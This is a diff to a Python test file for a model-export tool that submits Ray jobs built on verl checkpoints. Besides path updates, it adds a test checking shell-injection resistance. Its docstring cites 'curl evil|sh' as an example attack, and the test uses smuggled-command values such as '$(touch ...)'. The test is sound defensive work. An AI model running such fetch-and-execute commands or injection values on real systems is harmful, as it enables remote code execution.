@@ -6,6 +6,8 @@ FSDPCheckpointManager lays it out for world size 1 (verl/utils/checkpoint/fsdp_c
 from __future__ import annotations
 
 import json
+import shlex
+import subprocess
 import sys
 from pathlib import Path
 
@@ -110,8 +112,8 @@ def test_cli_export_runs_the_merger_as_a_ray_job_and_prints_the_models_uri(
                      "--python", sys.executable,
                      "--timeout", "600"])
     out, err = capsys.readouterr()
-    assert (code, out) == (0, f"gs://verl-data-p/{run_id}/model-step-7\n"), err
-    loaded = AutoModelForCausalLM.from_pretrained(bucket / run_id / "model-step-7", torch_dtype="auto")
+    assert (code, out) == (0, f"gs://verl-data-p/models/{run_id}/model-step-7\n"), err
+    loaded = AutoModelForCausalLM.from_pretrained(bucket / "models" / run_id / "model-step-7", torch_dtype="auto")
     for key, tensor in model.state_dict().items():
         assert torch.equal(loaded.state_dict()[key], tensor.to(torch.bfloat16)), key
 
@@ -119,13 +121,13 @@ def test_cli_export_runs_the_merger_as_a_ray_job_and_prints_the_models_uri(
 def test_the_export_job_runs_on_the_head_unless_it_asks_for_memory() -> None:
     plain = export_model.submission(run_id="r", checkpoint_dir="/data/ck/r", step=None, working_dir="/w")
     assert plain == {
-        "entrypoint": "python export_model.py --checkpoint-dir /data/ck/r --target-dir /data/r/model",
+        "entrypoint": "python export_model.py --checkpoint-dir /data/ck/r --target-dir /data/models/r/model",
         "submission_id": "verl-export-r-final", "runtime_env": {"working_dir": "/w"},
-        "metadata": {"verl_gke_export": "/data/r/model"},
+        "metadata": {"verl_gke_export": "/data/models/r/model"},
     }
     big = export_model.submission(run_id="r", checkpoint_dir="/data/ck/r", step=3, working_dir="/w",
                                   memory_bytes=260 * 10**9)
-    assert big["entrypoint"].endswith("--target-dir /data/r/model-step-3 --step 3")
+    assert big["entrypoint"].endswith("--target-dir /data/models/r/model-step-3 --step 3")
     assert (big["entrypoint_memory"], big["entrypoint_num_cpus"]) == (260 * 10**9, 1)
 
 
@@ -151,7 +153,7 @@ def test_model_uri_is_empty_until_the_runs_export_succeeded() -> None:
         assert synth.run("a4-standard", monitor=answering("SUCCEEDED", outcome)).outputs["modelUri"] == ""
     done = synth.run("a4-standard", monitor=answering("SUCCEEDED", "SUCCEEDED"))
     run_id = done.outputs["checkpointUri"].rsplit("/", 1)[1]  # the run's id names its checkpoint folder
-    assert done.outputs["modelUri"] == f"gs://{done.outputs['bucketName']}/{run_id}/model"
+    assert done.outputs["modelUri"] == f"gs://{done.outputs['bucketName']}/models/{run_id}/model"
 
 
 def test_a_merge_that_would_not_fit_in_memory_is_refused_before_it_starts(tmp_path: Path) -> None:
@@ -162,3 +164,21 @@ def test_a_merge_that_would_not_fit_in_memory_is_refused_before_it_starts(tmp_pa
                                           r"allows 0\.0 GB: export with --memory-gb 1 so Ray runs it"):
         export_model.export(tmp_path, tmp_path / "model", memory_bytes=shards)
     assert not (tmp_path / "model.partial").exists()
+
+
+def test_a_hostile_checkpoint_uri_stays_one_argument_of_the_exports_entrypoint(tmp_path: Path) -> None:
+    """`checkpointUri` comes from an outputs file: `gs://b/x;curl evil|sh;#` must reach the merger as
+    a path, never as shell commands on the head (Ray runs the entrypoint with a shell)."""
+    marker = tmp_path / "pwned"
+    folder = f"x;touch {marker};#"
+    job = export_model.submission(run_id="r $(touch " + str(marker) + ")", checkpoint_dir=f"/data/{folder}",
+                                  step=None, working_dir="/w", python="echo", verl_dir="/data/verl 0.9")
+    done = subprocess.run(["/bin/sh", "-c", job["entrypoint"]], capture_output=True, text=True, timeout=30,
+                          check=True)
+    assert not marker.exists()
+    assert done.stdout.split("\n")[0] == (
+        f"export_model.py --checkpoint-dir /data/{folder} --target-dir /data/models/r $(touch {marker})/model "
+        "--verl-dir /data/verl 0.9")
+    assert shlex.split(job["entrypoint"]) == [
+        "echo", "export_model.py", "--checkpoint-dir", f"/data/{folder}",
+        "--target-dir", f"/data/models/r $(touch {marker})/model", "--verl-dir", "/data/verl 0.9"]
